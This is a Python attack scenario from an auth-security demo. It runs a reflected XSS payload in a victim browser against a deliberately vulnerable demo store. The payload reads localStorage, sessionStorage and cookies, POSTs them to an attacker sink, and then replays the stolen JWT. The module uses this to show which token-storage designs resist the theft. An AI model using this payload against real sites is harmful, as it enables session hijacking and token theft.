"""Injected script reads the browser's storage and sends the JWT out.

Threat: a reflected XSS (the vulnerable demo build's `?xss=` hook: the victim opens a crafted
link to the Store while logged in). The script runs in the Store's origin, reads everything page
script can read -- localStorage, sessionStorage, document.cookie -- and POSTs it to the
attacker's origin (evil.authgate.localhost). The attacker then replays any JWT it found.
Stolen: the JWT in implicit-localstorage (seed 002). Usable until `exp`.
What stops it: keeping tokens out of script-readable storage (HttpOnly cookies after a cookie
drop, code+PKCE with HttpOnly cookies, BFF); a strict CSP stops this inline payload (scenario 10).
"""
from __future__ import annotations

import json

from authgate_demo.attacks.matrix import Cell, blocked, succeeded
from authgate_demo.attacks.scenarios import MITIGATION_NO_JS_TOKEN, claims_of, describe, jwts_in, seconds_left, short, xss_url

ID = "02-xss-read-storage"
TITLE = "Injected script reads localStorage and exfiltrates the JWT"

PAYLOAD = """(function(){var out={};
for(var i=0;i<localStorage.length;i++){var k=localStorage.key(i);out['localStorage.'+k]=localStorage.getItem(k);}
for(var j=0;j<sessionStorage.length;j++){var s=sessionStorage.key(j);if(s!=='authgate.log')out['sessionStorage.'+s]=sessionStorage.getItem(s);}
out['document.cookie']=document.cookie;
fetch(SINK,{method:'POST',mode:'no-cors',body:JSON.stringify(out)});})();"""


def applies(mode: str) -> str | None:
    return None


def payload(sink_url: str) -> str:
    return PAYLOAD.replace("SINK", json.dumps(sink_url))


async def run(ctx) -> Cell:  # type: ignore[no-untyped-def]
    page = await ctx.victim()
    tag = f"{ID}-{ctx.mode}"
    await page.goto(xss_url(ctx.url("store"), payload(ctx.sink.collect_url(tag))))
    got = await ctx.sink.wait_for(tag, timeout=5)
    if not got:
        return blocked("the payload sent nothing (did it run?)", ["no request reached the attacker's sink"])
    loot = got[0]
    evidence = [f"payload ran in the Store page and sent: {sorted(loot)} "
                f"(document.cookie={loot.get('document.cookie')!r})"]
    tokens = jwts_in(loot)
    if not tokens:
        return blocked(MITIGATION_NO_JS_TOKEN[ctx.mode], evidence + ["no JWT among what script could read"])
    jwt = tokens[0]
    r = await ctx.attack("GET", "store", "/api/load-shopping-cart", headers={"Authorization": f"Bearer {jwt}"})
    evidence.append(f"attacker replays the exfiltrated JWT {short(jwt)}: {describe(r)}")
    if r.status_code != 200:
        return blocked("the Store refused the exfiltrated JWT", evidence, stolen="a JWT the Store refused")
    claims = claims_of(jwt)
    return succeeded(stolen="the JWT (localStorage['authgate.jwt'])",
                     usable_for=f"until exp: {claims['exp'] - claims.get('iat', 0)}s lifetime, {seconds_left(jwt)}s left when replayed",
                     mitigation="none in this mode; HttpOnly cookies / code+PKCE / BFF keep tokens out of reach, strict CSP stops this payload",
                     evidence=evidence)
